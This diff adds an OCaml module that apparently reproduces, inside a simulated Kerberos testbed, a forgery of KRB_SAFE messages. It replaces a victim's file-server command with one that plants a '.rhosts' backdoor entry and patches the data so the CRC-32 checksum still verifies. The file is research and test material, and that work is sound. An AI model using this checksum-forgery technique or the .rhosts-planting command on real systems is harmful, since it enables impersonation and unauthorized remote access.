@@ -1,0 +1,105 @@
+open Kerberos
+
+type result = {
+  victim_sent : string;
+  forged_to : string;
+  forgery_accepted : bool;
+  file_planted : bool;
+}
+
+let victim_sent = "WRITE /u/pat/plan today: review chapter three and send comments"
+let forged_payload = "WRITE /u/pat/.rhosts darkstar.mit.edu robin"
+
+(* Compute a replacement for the KRB_SAFE data such that the CRC register,
+   after processing [u32 len'][data'], equals its state after
+   [u32 len][data] — the untouched (stamp, addr) suffix and the sealed
+   checksum then verify unchanged. Returns None when the checksum is
+   collision-proof. *)
+let forge_data (profile : Profile.t) ~original_data =
+  match profile.Profile.checksum with
+  | Crypto.Checksum.Md4 | Crypto.Checksum.Md4_des -> None
+  | Crypto.Checksum.Crc32 ->
+      let covered_prefix data =
+        let w = Wire.Codec.Writer.create () in
+        Wire.Codec.Writer.lbytes w data;
+        Wire.Codec.Writer.contents w
+      in
+      let target_state =
+        Crypto.Crc32.update Crypto.Crc32.init (covered_prefix original_data)
+      in
+      let body = Bytes.of_string forged_payload in
+      (* The forged data is the payload plus 4 patch bytes. *)
+      let forged_len = Bytes.length body + 4 in
+      let prefix =
+        let w = Wire.Codec.Writer.create () in
+        Wire.Codec.Writer.u32 w forged_len;
+        Wire.Codec.Writer.raw w body;
+        Wire.Codec.Writer.contents w
+      in
+      let from_state = Crypto.Crc32.update Crypto.Crc32.init prefix in
+      let patch = Crypto.Crc32.forge_state ~from_state ~to_state:target_state in
+      Some (Bytes.cat body patch)
+
+let run ?(seed = 0xE12L) ~profile () =
+  let bed = Testbed.make ~seed ~profile () in
+  let forged = ref false in
+  Sim.Adversary.intercept bed.adv (fun pkt ->
+      if !forged || pkt.Sim.Packet.dport <> bed.file_port then Sim.Net.Deliver
+      else
+        match Frames.unwrap pkt.Sim.Packet.payload with
+        | Some (k, body) when k = Frames.safe -> (
+            (* KRB_SAFE is cleartext: parse it, swap the data, keep the
+               stamp and the sealed checksum verbatim. *)
+            match
+              let r = Wire.Codec.Reader.of_bytes body in
+              let data = Wire.Codec.Reader.lbytes r in
+              let stamp = Wire.Codec.Reader.i64 r in
+              let sealed = Wire.Codec.Reader.lbytes r in
+              (data, stamp, sealed)
+            with
+            | exception Wire.Codec.Decode_error _ -> Sim.Net.Deliver
+            | data, stamp, sealed -> (
+                match forge_data profile ~original_data:data with
+                | None -> Sim.Net.Deliver (* collision-proof: nothing to do *)
+                | Some data' ->
+                    forged := true;
+                    let w = Wire.Codec.Writer.create () in
+                    Wire.Codec.Writer.lbytes w data';
+                    Wire.Codec.Writer.i64 w stamp;
+                    Wire.Codec.Writer.lbytes w sealed;
+                    Sim.Net.Replace
+                      [ { pkt with
+                          Sim.Packet.payload =
+                            Frames.wrap Frames.safe (Wire.Codec.Writer.contents w) } ]))
+        | _ -> Sim.Net.Deliver);
+  Client.login bed.victim ~password:bed.victim_password (fun r ->
+      ignore (Testbed.expect "login" r);
+      Client.get_ticket bed.victim ~service:bed.file_principal (fun r ->
+          let creds = Testbed.expect "ticket" r in
+          Client.ap_exchange bed.victim creds ~dst:(Sim.Host.primary_ip bed.file_host)
+            ~dport:bed.file_port (fun r ->
+              let chan = Testbed.expect "ap" r in
+              Client.call_safe bed.victim chan (Bytes.of_string victim_sent)
+                ~k:(fun _ -> ()))));
+  Testbed.run bed;
+  let planted =
+    match Services.Fileserver.read_file bed.file "/u/pat/.rhosts" with
+    | Some content ->
+        Astring.String.is_prefix ~affix:"darkstar.mit.edu robin"
+          (Bytes.to_string content)
+    | None -> false
+  in
+  let accepted =
+    List.exists
+      (fun (cmd, who) ->
+        who = "pat@ATHENA" && Astring.String.is_prefix ~affix:"WRITE /u/pat/.rhosts" cmd)
+      (Services.Fileserver.request_log bed.file)
+  in
+  { victim_sent; forged_to = forged_payload; forgery_accepted = accepted;
+    file_planted = planted }
+
+let outcome r =
+  if r.forgery_accepted then
+    Outcome.broken "KRB_SAFE data swapped, sealed CRC-32 still verified; %s"
+      (if r.file_planted then ".rhosts planted as the victim" else "forged command ran")
+  else Outcome.defended "no same-checksum substitute exists (collision-proof checksum)"
